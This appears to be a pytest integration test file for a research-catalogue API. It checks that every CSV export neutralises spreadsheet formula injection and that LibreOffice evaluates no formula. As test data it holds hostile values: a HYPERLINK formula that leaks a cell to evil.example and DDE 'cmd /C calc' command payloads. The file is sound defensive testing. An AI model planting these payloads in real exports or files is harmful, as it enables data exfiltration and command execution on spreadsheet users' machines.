"""CSV exports open in a spreadsheet as data: a value that begins like a formula is
written as text, in every CSV the server makes, and LibreOffice (headless) evaluates none.

The real build goes into a store of its own with a study's title and first author and two
concepts' labels replaced by formulas (a sheet could hold them, and a remote store can hold
anything); the expected cells are the hostile values with a single quote before them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from smqi.api.app import create_app
from smqi.api.http.spreadsheet import FORMULA_STARTS
from smqi.api.store import EmbeddedStore, EmbeddedStoreSettings
from tests.libreoffice import convert

from .built_graph import TIMEOUT_S, make_settings

pytestmark = pytest.mark.integration

STUDY = "<https://w3id.org/smqi/id/study/doi/10.1136/bmjqs-2015-004309>"
TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Full text")'
AUTHOR = "+cmd|' /C calc'!A0"
TWITTER = "@SUM(1+1)*cmd|' /C calc'!A0"
FACEBOOK = "-2+3"
TAB = "\t=1+1"
# (the N-Quads object replaced, the hostile value put in its place)
PREF_LABEL = "<http://www.w3.org/2004/02/skos/core#prefLabel>"
PLATFORM = "https://w3id.org/smqi/vocab/platform/"
REPLACED = (
    (f'{STUDY} <http://purl.org/dc/terms/title> "', TITLE),
    (f'{STUDY} <https://w3id.org/smqi/ontology#firstAuthor> "', AUTHOR),
    (f'<{PLATFORM}twitter> {PREF_LABEL} "', TWITTER),
    (f'<{PLATFORM}facebook> {PREF_LABEL} "', FACEBOOK),
    (f'<{PLATFORM}care-opinion> {PREF_LABEL} "', TAB),
)
# Every CSV the server writes, with the hostile values each holds.
EXPORTS = {
    "studies": ("/studies?format=csv&limit=100", (TITLE, AUTHOR, TWITTER, FACEBOOK, TAB)),
    "studies-page": ("/studies?format=csv&limit=5&offset=5", ()),
    "summary": ("/summary?rows=platform&cols=stage&format=csv", (TWITTER, FACEBOOK, TAB)),
    "summary-matrix": (
        "/summary?rows=platform&cols=stage&format=csv&layout=matrix",
        (TWITTER, FACEBOOK, TAB),
    ),
    "gaps": ("/gaps?rows=stage&cols=platform&format=csv", (TWITTER,)),
    "map": ("/map?rows=platform&cols=stage&format=csv", (TWITTER, FACEBOOK, TAB)),
    "map-split": (
        "/map?rows=platform&cols=stage&split=population&format=csv",
        (TWITTER, FACEBOOK, TAB),
    ),
}


def _escaped(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")


def with_formulas(nquads: str) -> str:
    lines = nquads.splitlines()
    for start, value in REPLACED:
        hits = [i for i, line in enumerate(lines) if line.startswith(start)]
        assert hits, start
        for i in hits:
            rest = lines[i][len(start) :]
            end = rest.index('"', 1) if not rest.startswith('"') else 0
            while rest[end - 1] == "\\":  # an escaped quote inside the literal
                end = rest.index('"', end + 1)
            lines[i] = start + _escaped(value) + rest[end:]
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def formulas(
    built_data: Path, built_nquads: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TestClient]:
    directory = tmp_path_factory.mktemp("formula-store")
    dataset = directory / "formulas.nq"
    dataset.write_text(with_formulas(built_nquads.read_text(encoding="utf-8")), encoding="utf-8")
    settings = EmbeddedStoreSettings(data_dir=directory / "store", query_timeout_s=TIMEOUT_S)
    store = EmbeddedStore(settings)
    store.replace(dataset)
    with TestClient(create_app(make_settings(built_data, settings), store)) as client:
        yield client


def export(client: TestClient, name: str) -> bytes:
    response = client.get(EXPORTS[name][0])
    assert response.status_code == 200, name
    assert response.headers["content-type"].startswith("text/csv")
    return response.content


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_csv_export_writes_formulas_as_text(formulas: TestClient, name: str) -> None:
    cells = [
        cell for row in csv.reader(io.StringIO(export(formulas, name).decode())) for cell in row
    ]
    for value in EXPORTS[name][1]:
        assert any(("'" + value) in cell for cell in cells), (name, value)
    starting = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert starting == [], (name, starting)


def test_numbers_stay_numbers(formulas: TestClient) -> None:
    rows = list(csv.DictReader(io.StringIO(export(formulas, "summary").decode())))
    assert rows and all(row["count"].isdigit() for row in rows)


@pytest.mark.libreoffice
def test_libreoffice_evaluates_no_formula_in_any_export(
    formulas: TestClient, tmp_path: Path
) -> None:
    files = []
    for name in sorted(EXPORTS):
        files.append(tmp_path / f"{name}.csv")
        files[-1].write_bytes(export(formulas, name))
    # the control: the same values written verbatim, which LibreOffice does evaluate
    control = tmp_path / "control.csv"
    control.write_text(f'"{TITLE.replace(chr(34), chr(34) * 2)}",=1+1\r\n', encoding="utf-8")
    out = tmp_path / "xlsx"
    # comma, quote, UTF-8, from the first line
    convert([control, *files], "xlsx", out, tmp_path / "lo-profile", infilter="CSV:44,34,76,1")
    evaluated = openpyxl.load_workbook(out / "control.xlsx").active
    assert [cell.data_type for cell in evaluated[1]] == ["f", "f"]  # formulas, as feared
    for name in sorted(EXPORTS):
        sheet = openpyxl.load_workbook(out / f"{name}.xlsx").active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
        texts = [str(c.value) for c in cells if c.data_type == "s"]
        for value in EXPORTS[name][1]:
            assert any(("'" + value) in text for text in texts), (name, value)
